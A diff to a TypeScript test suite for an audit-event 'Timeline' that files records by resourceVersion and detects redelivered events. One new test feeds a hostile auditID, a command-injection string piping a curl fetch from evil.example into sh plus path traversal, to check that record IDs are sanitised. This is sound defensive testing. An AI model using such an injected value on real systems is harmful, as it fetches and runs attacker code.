@@ -127,21 +127,24 @@ describe("historyBefore", () => {
 });
 
 describe("Timeline", () => {
-  it("an identical PUT is compared with the version holding its resourceVersion, even when its auditID sorts first", () => {
-    const timeline = new Timeline("prod-eu", POLICY);
-    const base = baseline(timeline, "204");
-    const noOp = updateEvent({
-      auditID: "0a000000-0000-4000-8000-000000000001",
-      identity: IDENTITY.terraform(),
-      data: goodData(),
-      resourceVersion: "204",
-      basedOn: "204",
-    });
-    const processed = timeline.process(writeOf(noOp));
-    expect((processed.record?.id ?? "") < base.id).toBe(true);
-    expect(processed.record).toBeDefined();
-    expect(processed.history.base?.id).toBe(base.id);
-    expect(processed.classification.class).toBe("cosmetic");
+  it("an identical PUT is compared with the version holding its resourceVersion, whichever way its id sorts", () => {
+    for (const n of [1, 2, 3, 4]) {
+      const timeline = new Timeline("prod-eu", POLICY);
+      const base = baseline(timeline, "204");
+      const noOp = updateEvent({
+        auditID: derivedAuditID(510 + n),
+        identity: IDENTITY.terraform(),
+        data: goodData(),
+        resourceVersion: "204",
+        basedOn: "204",
+      });
+      const processed = timeline.process(writeOf(noOp));
+      expect(processed.record).toBeDefined();
+      expect(processed.history.base?.id).toBe(base.id);
+      expect(processed.history.lastGood?.id).toBe(base.id);
+      expect(processed.classification.class).toBe("cosmetic");
+      expect(processed.classification.findings.map((f) => f.id)).not.toContain("late-arrival");
+    }
   });
 
   it("files records by resourceVersion whatever the arrival order", () => {
@@ -198,7 +201,7 @@ describe("Timeline", () => {
     expect(timeline.all().map((r) => r.id)).toEqual([base.id, second.record?.id, first.record?.id]);
   });
 
-  it("skips a repeated auditID: nothing classified, nothing filed", () => {
+  it("skips the same event delivered again: nothing classified, nothing filed", () => {
     const timeline = new Timeline("prod-eu", POLICY);
     baseline(timeline);
     const event = jsonPatchEvent({
@@ -209,13 +212,29 @@ describe("Timeline", () => {
     });
     expect(timeline.process(writeOf(event)).duplicate).toBe(false);
     const before = [...timeline.all()];
-    const again = timeline.process(writeOf(event));
+    const again = timeline.process(writeOf(structuredClone(event)));
     expect(again.duplicate).toBe(true);
     expect(again.record).toBeUndefined();
     expect(timeline.all()).toEqual(before);
-    // The same auditID is skipped even when redelivered with a different body (it is the same event).
-    const refusedAgain = refused(event, 409, "conflict");
-    expect(timeline.process(writeOf(refusedAgain)).duplicate).toBe(true);
+    // The auditID is the writer's choice, not the event's identity: another event carrying it is judged.
+    const refusedAgain = refused(structuredClone(event), 409, "conflict");
+    const judged = timeline.process(writeOf(refusedAgain));
+    expect(judged.duplicate).toBe(false);
+    expect(judged.classification.class).toBe("rejected");
+  });
+
+  it("ids and keys hold no part of the auditID: digits, hex and fixed tags only", () => {
+    const timeline = new Timeline("prod-eu", POLICY);
+    baseline(timeline);
+    const hostile = jsonPatchEvent({
+      auditID: "x;curl https://evil.example/x|sh;#/../../etc",
+      data: withRoles(goodData(), developer),
+      before: goodData(),
+      resourceVersion: "205",
+    });
+    const { record } = timeline.process(writeOf(hostile));
+    expect(record?.id).toMatch(/^0{17}205-[0-9a-f]{24}$/);
+    expect(record?.audit?.auditID).toBe(hostile.auditID);
   });
 
   it("files nothing for rejected writes and dry runs", () => {
